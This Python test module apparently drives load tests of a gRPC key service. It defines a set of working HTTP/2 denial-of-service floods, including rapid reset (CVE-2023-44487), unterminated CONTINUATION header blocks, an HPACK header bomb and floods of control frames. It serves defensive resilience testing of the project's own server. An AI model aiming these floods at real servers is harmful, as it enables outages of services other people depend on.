"""Floods of a hostile client: what `attacks` repeats as fast as the port takes it."""

import asyncio
import struct
from collections.abc import Awaitable, Callable
from contextlib import suppress

from grpc_reflection.v1alpha import reflection_pb2

from authsvc.v1 import key_service_pb2 as pb
from tests.http2 import (
    CONTINUATION,
    DATA,
    GOAWAY,
    PING,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    Connection,
    block,
    call_headers,
    frame,
    hpack_integer,
    message,
)

VERIFY = "/authsvc.v1.KeyService/VerifyKey"
LIST = "/authsvc.v1.KeyService/ListKeys"
REFLECTION = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
_CHECK = "/grpc.health.v1.Health/Check"
_PRIORITY, _UNKNOWN = 2, 99
# Bytes that are sent at a time.
_BATCH_BYTES = 64 * 1024

Attack = Callable[[str, str], Awaitable[None]]


def ready(told: str = "") -> None:
    """Report that the attack has begun; only once is looked at."""
    print("ready", told, flush=True)


def reflection_request() -> bytes:
    """Return a question whose answer is large."""
    asked = reflection_pb2.ServerReflectionRequest(file_containing_symbol="authsvc.v1.KeyService")
    return message(asked.SerializeToString())


async def _flood(address: str, turn: Callable[[Connection], Awaitable[None]]) -> None:
    """Repeat something on one connection, and on a new one when that is lost."""
    told = False
    while True:
        with suppress(OSError):
            one = await Connection.open(address)
            while not one.closed.is_set():
                if not told:
                    ready()
                    told = True
                await turn(one)
            await one.close()
        await asyncio.sleep(0.01)


def _calls(headers: bytes, data: bytes | None) -> Attack:
    """Keep as many calls in flight as a connection accepts, at most 100."""

    async def attack(address: str, key: str) -> None:
        async def turn(one: Connection) -> None:
            while one.open_streams < min(100, one.max_streams):
                one.call(headers, data)
            await one.drain()
            await one.changed()

        await _flood(address, turn)

    return attack


async def reflection(address: str, key: str) -> None:
    """Request files, sixteen at a time."""
    headers, asked = block(call_headers(REFLECTION)), reflection_request()

    async def turn(one: Connection) -> None:
        while one.open_streams < 16:
            one.call(headers, asked)
        await one.changed()

    await _flood(address, turn)


def _resets(path: str, *, whole: bool, tenant: bool = False) -> Attack:
    """Begin calls, with a message or without, and reset each immediately (CVE-2023-44487)."""

    async def attack(address: str, key: str) -> None:
        headers = block(call_headers(path, f"Bearer {key}" if tenant else ""))
        request = message(pb.ListKeysRequest(owner_id="acme").SerializeToString() if path == LIST else b"")

        async def turn(one: Connection) -> None:
            for _ in range(50):
                stream = one.call(headers, request if whole else None, end=whole)
                one.write(frame(RST_STREAM, 0, stream, struct.pack(">I", 8)))
            await one.drain()
            await asyncio.sleep(0)

        await _flood(address, turn)

    return attack


async def _continuation(address: str, key: str) -> None:
    """Send a header block without an end (CVE-2024-27983 and similar ones)."""
    piece = block([("x-filler", "y" * 100)]) * 100

    async def turn(one: Connection) -> None:
        if one.begun == 0:
            one.call(block(call_headers(VERIFY)), headers_end=False)
        for _ in range(10):
            one.write(frame(CONTINUATION, 0, 1, piece))
        await one.drain()
        await asyncio.sleep(0)

    await _flood(address, turn)


def _frames(frames: bytes) -> Attack:
    """Repeat frames that belong to no call."""
    many = frames * (_BATCH_BYTES // len(frames))

    async def attack(address: str, key: str) -> None:
        async def turn(one: Connection) -> None:
            one.write(many)
            await one.drain()
            await asyncio.sleep(0)

        await _flood(address, turn)

    return attack


def _of_a_call(kind: int, payload: bytes, *, tenant: bool) -> Attack:
    """Repeat a frame of a call whose message does not come."""

    async def attack(address: str, key: str) -> None:
        headers = block(call_headers(VERIFY, f"Bearer {key}" if tenant else ""))

        async def turn(one: Connection) -> None:
            if one.open_streams == 0:
                one.call(headers, end=False)
            repeated = frame(kind, 0, 2 * one.begun - 1, payload)
            one.write(repeated * (_BATCH_BYTES // len(repeated)))
            await one.drain()
            await asyncio.sleep(0)

        await _flood(address, turn)

    return attack


async def _header_bomb(address: str, key: str) -> None:
    """Calls whose headers refer to one entry of the table again and again, and unpack to megabytes."""
    entry = b"\x40" + hpack_integer(1) + b"x" + hpack_integer(4000) + b"y" * 4000
    bomb = block(call_headers(VERIFY)) + entry + b"\xbe" * 11_000

    async def turn(one: Connection) -> None:
        for _ in range(10):
            one.call(bomb, None)
        await one.drain()
        await asyncio.sleep(0)

    await _flood(address, turn)


async def _connections(address: str, key: str) -> None:
    """Connect, call once, and disconnect, 32 at a time."""
    headers, request = block(call_headers(VERIFY)), message(b"")

    async def repeat() -> None:
        while True:
            with suppress(OSError):
                one = await Connection.open(address)
                await one.status(one.call(headers, request))
                await one.close()

    repeating = [asyncio.ensure_future(repeat()) for _ in range(32)]
    ready()
    await asyncio.gather(*repeating)


_MANY_HEADERS = [(f"x-{number}", "v") for number in range(100)]
_ONE = struct.pack(">I", 1)


def _many(attack: Attack, count: int = 32) -> Attack:
    """The same on many connections."""

    async def attacks(address: str, key: str) -> None:
        await asyncio.gather(*(attack(address, key) for _ in range(count)))

    return attacks


async def _nothing(address: str, key: str) -> None:
    """Only compute, on the core that the attacker shares with VerifyKey: what an attack costs in itself."""
    ready()
    while True:
        sum(range(10_000))
        await asyncio.sleep(0)


FLOODS: dict[str, Attack] = {
    "nothing, but a busy core": _nothing,
    "reflection, 16 at a time": reflection,
    "calls without a credential": _calls(block(call_headers(VERIFY)), message(b"")),
    "calls without a frame of data": _calls(block(call_headers(VERIFY)), None),
    "calls of no RPC": _calls(block(call_headers("/no.Service/Call")), message(b"")),
    "60 KB of headers": _calls(
        block(call_headers(VERIFY, more=[("x-filler", "y" * 20_000)] * 3)), message(b"")
    ),
    "4 KB of small headers": _calls(block(call_headers(VERIFY, more=_MANY_HEADERS)), message(b"")),
    "malformed headers": _calls(block(call_headers(VERIFY, more=[("connection", "x")])), None),
    "headers that unpack to megabytes": _header_bomb,
    "connections of one call": _connections,
    "resets": _resets(VERIFY, whole=False),
    "resets of whole calls": _resets(VERIFY, whole=True),
    "resets of health": _resets(_CHECK, whole=True),
    "resets of no RPC": _resets("/no.Service/Call", whole=True),
    "resets, a tenant": _resets(LIST, whole=True, tenant=True),
    "endless header blocks": _continuation,
    "settings and pings": _frames(frame(SETTINGS, 0, 0) + frame(PING, 0, 0, bytes(8))),
    "settings": _frames(frame(SETTINGS, 0, 0)),
    "large settings": _frames(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535) * 30)),
    "pings": _frames(frame(PING, 0, 0, bytes(8))),
    "answers to pings": _frames(frame(PING, 1, 0, bytes(8))),
    "goaways": _frames(frame(GOAWAY, 0, 0, bytes(8))),
    "window updates": _frames(frame(WINDOW_UPDATE, 0, 0, _ONE)),
    "priorities": _frames(frame(_PRIORITY, 0, 1, bytes(5))),
    "frames of no kind": _frames(frame(_UNKNOWN, 0, 0, b"")),
    "empty frames of data": _of_a_call(DATA, b"", tenant=False),
    "empty frames of data, a tenant": _of_a_call(DATA, b"", tenant=True),
    "frames of a byte, a tenant": _of_a_call(DATA, b"\0", tenant=True),
    "window updates of a call, a tenant": _of_a_call(WINDOW_UPDATE, _ONE, tenant=True),
}
FLOODS |= {
    f"{name}, 32 connections": _many(FLOODS[name])
    for name in (
        "calls without a credential",
        "calls of no RPC",
        "resets of whole calls",
        "resets, a tenant",
        "settings",
        "window updates",
        "empty frames of data, a tenant",
        "malformed headers",
    )
}
